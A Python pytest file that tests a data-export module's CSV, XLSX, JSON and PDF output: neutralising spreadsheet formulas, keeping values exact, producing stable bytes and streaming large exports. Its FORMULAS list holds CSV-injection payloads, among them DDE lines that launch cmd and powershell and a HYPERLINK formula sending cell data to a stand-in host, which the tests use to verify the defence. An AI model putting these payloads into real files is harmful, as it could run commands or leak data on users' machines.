"""Exports: safe in a spreadsheet, whole or visibly cut, and the same bytes for the same rows."""

import base64
import csv
import hashlib
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
import zlib
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import pytest

from exportctl.exports import CHUNK, FORMATS, Column, Tally, formula_safe, plain, render

COLUMNS = [
    Column("name", "Name"),
    Column("filed_on", "Filed on", "date"),
    Column("decided_at", "Decided at", "datetime"),
    Column("quantity", "Quantity", "number"),
    Column("value", "Value, USD", "money"),
    Column("open", "Open", "bool"),
    Column("lists", "Lists", "list"),
]
SHANGHAI = timezone(timedelta(hours=8))
ROWS = [
    (
        "华为技术有限公司",
        date(2020, 8, 17),
        datetime(2020, 8, 18, 9, 30, tzinfo=SHANGHAI),
        40,
        Decimal("336000.50"),
        True,
        ["Entity List", "MEU"],
    ),
    ('Say "hi",\nthen 𠮷 and 😀', None, None, Decimal("-3.20"), None, False, []),
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|'/C powershell'!A0",
    "x;=1+1",
    "x\n=1+1",
    "x\r\n@SUM(A1)",
    "x\t+1",
    "x; -1",
]
LIVE = re.compile(r"^[\s\u200b\ufeff]*[=+\-@＝＋－＠]")


def take(format, columns=COLUMNS, rows=ROWS, title="Decisions", subtitle=""):
    return b"".join(render(columns=columns, rows=rows, format=format, title=title, subtitle=subtitle))


def csv_rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_cells(data, sheet=1):
    """{(row, column letter): (type, text)} read from the workbook's own XML."""
    name = f"xl/worksheets/sheet{sheet}.xml"
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert book.testzip() is None
        root = ET.fromstring(book.read(name))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not list(root.iter(f"{space}f"))
    cells = {}
    for cell in root.iter(f"{space}c"):
        texts = [node.text or "" for tag in ("v", "t") for node in cell.iter(space + tag)]
        cells[cell.get("r")] = (cell.get("t"), "".join(texts))
    return cells


def pdf_text(data):
    """All drawn text, page streams unpacked; CID strings are UTF-16 and come last."""
    found = []
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", data, re.DOTALL):
        body = stream.strip()
        if body.endswith(b"~>"):
            found.append(zlib.decompress(base64.a85decode(body.removeprefix(b"<~").removesuffix(b"~>"))))
    return b"\n".join(found)


def pdf_strings(data):
    raw = re.findall(rb"\(((?:\\.|[^\\()])*)\) Tj", pdf_text(data), re.DOTALL)
    unescaped = [re.sub(rb"\\([0-7]{3}|.)", _unescape, text, flags=re.DOTALL) for text in raw]
    return [
        text.decode("utf-16-be") if b"\0" in text or not _latin(text) else text.decode("cp1252")
        for text in unescaped
    ]


def _unescape(match):
    code = match.group(1)
    named = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}
    return bytes([int(code, 8)]) if len(code) == 3 else named.get(code, code)


def _latin(text):
    return all(32 <= byte < 127 for byte in text)


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_with_formula_is_text(text):
    data = take("csv", [Column("a", "A"), Column("b", "B")], [("first", text), (text, "last")])
    for row in csv_rows(data)[1:]:
        for cell in row:
            assert not LIVE.match(cell)
            for piece in re.split(r"[;\t\r\n]", cell):
                assert not LIVE.match(piece)


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_cell_with_formula_is_a_string(text):
    cells = sheet_cells(take("xlsx", [Column("a", "A")], [(text,)]))
    kind, value = cells["A2"]
    assert kind in ("inlineStr", "s")
    assert value.replace("_x000D_", "\r").replace("\n", "\r") == text.replace("\n", "\r")


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_title_with_formula_is_text(format):
    data = take(format, [Column("a", "=1+1")], [])
    if format == "csv":
        assert csv_rows(data) == [["'=1+1"]]
    else:
        assert sheet_cells(data)["A1"] == ("inlineStr", "=1+1")


def test_list_with_formula_parts_is_text():
    data = take("csv", [Column("a", "A", "list")], [(["=1", "@x"],)])
    assert csv_rows(data)[1] == ["'=1;' @x"]


@pytest.mark.parametrize("text", ["Z482917", "3A001.b.2", "a=b", "x - y", "1+1", "me@example.com", ""])
def test_harmless_text_is_unchanged(text):
    assert formula_safe(text) == text


def test_negative_number_is_a_number():
    assert csv_rows(take("csv", [Column("a", "A", "number")], [(-5,), (Decimal("-1E+3"),)]))[1:] == [
        ["-5"],
        ["-1000"],
    ]


def test_csv_keeps_every_value():
    assert csv_rows(take("csv")) == [
        ["Name", "Filed on", "Decided at", "Quantity", "Value, USD", "Open", "Lists"],
        [
            "华为技术有限公司",
            "2020-08-17",
            "2020-08-18T01:30:00Z",
            "40",
            "336000.50",
            "yes",
            "Entity List; MEU",
        ],
        ['Say "hi",\nthen 𠮷 and 😀', "", "", "-3.20", "", "no", ""],
    ]
    assert take("csv").startswith("\ufeff".encode())


def test_json_keeps_every_value_and_proves_itself():
    data = take("json", title="Decisions", subtitle="all")
    body = json.loads(data)
    assert body["columns"][2] == {"key": "decided_at", "title": "Decided at", "kind": "datetime"}
    assert body["rows"] == [
        {
            "name": "华为技术有限公司",
            "filed_on": "2020-08-17",
            "decided_at": "2020-08-18T01:30:00Z",
            "quantity": 40,
            "value": "336000.50",
            "open": True,
            "lists": ["Entity List", "MEU"],
        },
        {
            "name": 'Say "hi",\nthen 𠮷 and 😀',
            "filed_on": None,
            "decided_at": None,
            "quantity": "-3.20",
            "value": None,
            "open": False,
            "lists": [],
        },
    ]
    assert body["row_count"] == 2
    assert body["sha256"] == hashlib.sha256(data[: data.index(b'"row_count"')]).hexdigest()


def test_cut_json_is_no_json():
    data = take("json")
    with pytest.raises(json.JSONDecodeError):
        json.loads(data[:-90])


def test_xlsx_keeps_every_value():
    cells = sheet_cells(take("xlsx"))
    assert cells["A2"] == ("inlineStr", "华为技术有限公司")
    assert cells["B2"] == (None, str((date(2020, 8, 17) - date(1899, 12, 30)).days))
    serial = (datetime(2020, 8, 18, 1, 30) - datetime(1899, 12, 30)) / timedelta(days=1)
    assert float(cells["C2"][1]) == pytest.approx(serial)
    assert cells["D2"] == (None, "40")
    assert Decimal(cells["E2"][1]) == Decimal("336000.50")
    assert cells["F2"] == ("b", "1")
    assert cells["G2"] == ("inlineStr", "Entity List; MEU")
    assert cells["A3"] == ("inlineStr", 'Say "hi",\nthen 𠮷 and 😀')
    assert "B3" not in cells
    assert cells["A5"] == ("inlineStr", "Rows: 2")


def test_xlsx_number_beyond_a_float_is_text():
    cells = sheet_cells(take("xlsx", [Column("a", "A", "money")], [(Decimal("12345678901234.5678"),)]))
    assert cells["A2"] == ("inlineStr", "12345678901234.5678")


def test_xlsx_text_longer_than_a_cell_says_so():
    kind, text = sheet_cells(take("xlsx", [Column("a", "A")], [("x" * 40_000,)]))["A2"]
    assert kind == "inlineStr"
    assert len(text) == 32_767
    assert text.endswith("[cut; the full text is in CSV and JSON]")


def test_xlsx_early_date_is_text():
    assert sheet_cells(take("xlsx", [Column("a", "A", "date")], [(date(1899, 1, 1),)]))["A2"] == (
        "inlineStr",
        "1899-01-01",
    )


def test_pdf_shows_rows_titles_and_count():
    data = take("pdf", title="Decisions 决定", subtitle="February to July")
    assert data.startswith(b"%PDF-")
    assert data.rstrip().endswith(b"%%EOF")
    text = pdf_strings(data)
    for wanted in [
        "Name",
        "February to July",
        "2020-08-18 01:30 UTC",
        "336,000.50",
        "Rows: 2",
        "华为技术有限公司",
    ]:
        assert wanted in text
    assert "Page 1 of " in text
    assert "1" in text
    assert "U+20BB7" not in text


def test_pdf_names_what_it_had_to_transliterate():
    text = pdf_strings(take("pdf", [Column("a", "A")], [("شركة",)]))
    assert any(part.startswith("<") and part.endswith(">") for part in text)
    assert any("transliterated" in part for part in text)


def test_pdf_repeats_titles_on_every_page():
    text = pdf_strings(take("pdf", [Column("a", "Heading")], [(f"row {n}",) for n in range(200)]))
    pages = max(int(part.split()[1]) for part in text if part.startswith("Page "))
    assert pages > 2
    assert text.count("Heading") == pages
    assert str(pages) in text
    assert [part for part in text if part.startswith("row ")] == [f"row {n}" for n in range(200)]


def test_pdf_long_value_is_cut_with_an_ellipsis():
    text = pdf_strings(take("pdf", [Column("a", "A"), Column("b", "B")], [("word " * 2000, "x" * 5000)]))
    assert sum(part.endswith("...") for part in text) == 2


def test_pdf_with_many_columns_is_landscape():
    def box(count):
        columns = [Column(f"c{n}", f"Column {n}") for n in range(count)]
        data = take("pdf", columns, [["value"] * count])
        return [float(n) for n in re.search(rb"/MediaBox \[ 0 0 (\S+) (\S+) \]", data).groups()]

    assert box(3)[0] < box(3)[1]
    assert box(10)[0] > box(10)[1]
    assert box(30)[0] > box(10)[0]


@pytest.mark.parametrize("format", FORMATS)
def test_no_rows_is_an_export_too(format):
    data = take(format, rows=[])
    if format == "csv":
        assert len(csv_rows(data)) == 1
    elif format == "json":
        assert json.loads(data)["rows"] == []
        assert json.loads(data)["row_count"] == 0
    elif format == "xlsx":
        assert sheet_cells(data)["A3"] == ("inlineStr", "Rows: 0")
    else:
        assert "Rows: 0" in pdf_strings(data)


@pytest.mark.parametrize("format", FORMATS)
def test_same_rows_give_same_bytes(format):
    rows = ROWS * 50
    assert take(format, rows=rows) == take(format, rows=rows)


@pytest.mark.parametrize("format", FORMATS)
def test_ten_thousand_rows_stream(format):
    columns = [Column("n", "Number", "number"), Column("a", "Party"), Column("v", "Value", "money")]
    rows = ((n, f"Party 华 {n}", Decimal(n) / 4) for n in range(10_000))
    chunks = list(render(columns=columns, rows=rows, format=format, title="Many"))
    data = b"".join(chunks)
    assert all(len(chunk) <= 2 * CHUNK for chunk in chunks)
    assert len(chunks) > 1
    if format == "csv":
        assert csv_rows(data)[-1] == ["9999", "Party 华 9999", "2499.75"]
        assert len(csv_rows(data)) == 10_001
    elif format == "json":
        assert len(json.loads(data)["rows"]) == json.loads(data)["row_count"] == 10_000
    elif format == "xlsx":
        assert sheet_cells(data)["A10003"] == ("inlineStr", "Rows: 10,000")
    else:
        assert "Rows: 10,000" in pdf_strings(data)


@pytest.mark.parametrize("format", ["csv", "json"])
def test_rows_are_taken_as_the_reader_asks(format):
    taken = []
    rows = ((taken.append(n) or "x" * 1000,) for n in range(1000))
    stream = render(columns=[Column("a", "A")], rows=rows, format=format, title="T")
    next(stream)
    assert 0 < len(taken) < 200


def test_unknown_format_is_refused_naming_the_formats():
    with pytest.raises(ValueError, match="csv, xlsx, json, pdf"):
        render(columns=COLUMNS, rows=[], format="docx", title="T")


@pytest.mark.parametrize("columns", [[], [Column("a", "A"), Column("a", "B")], [Column("a", "A", "picture")]])
def test_bad_columns_are_refused(columns):
    with pytest.raises(ValueError, match="key|kind"):
        render(columns=columns, rows=[], format="csv", title="T")


@pytest.mark.parametrize("format", FORMATS)
def test_row_of_another_length_is_refused(format):
    with pytest.raises(ValueError, match="Row 2 has 1 values for 7 columns"):
        take(format, rows=[ROWS[0], ("only",)])


@pytest.mark.parametrize("format", FORMATS)
def test_naive_datetime_is_refused(format):
    with pytest.raises(ValueError, match="no time zone"):
        take(format, [Column("a", "A", "datetime")], [(datetime(2026, 8, 6, 10),)])


def test_plain_writes_a_set_in_order():
    assert plain({"b", "a"}) == "a; b"


def test_tally_counts_and_hashes_what_was_sent():
    tally, ended = Tally(), []
    stream = render(columns=COLUMNS, rows=tally.count(ROWS), format="csv", title="T")
    data = b"".join(tally.watch(stream, done=ended.append))
    assert ended == [tally]
    assert (tally.rows, tally.size, tally.complete) == (2, len(data), True)
    assert tally.sha256 == hashlib.sha256(data).hexdigest()


def test_tally_of_a_cut_stream_is_not_complete():
    tally, ended = Tally(), []
    rows = (("x" * 1000,) for _ in range(1000))
    stream = render(columns=[Column("a", "A")], rows=tally.count(rows), format="csv", title="T")
    watched = tally.watch(stream, done=ended.append)
    first = next(watched)
    watched.close()
    assert ended == [tally]
    assert tally.complete is False
    assert tally.sha256 == hashlib.sha256(first).hexdigest()
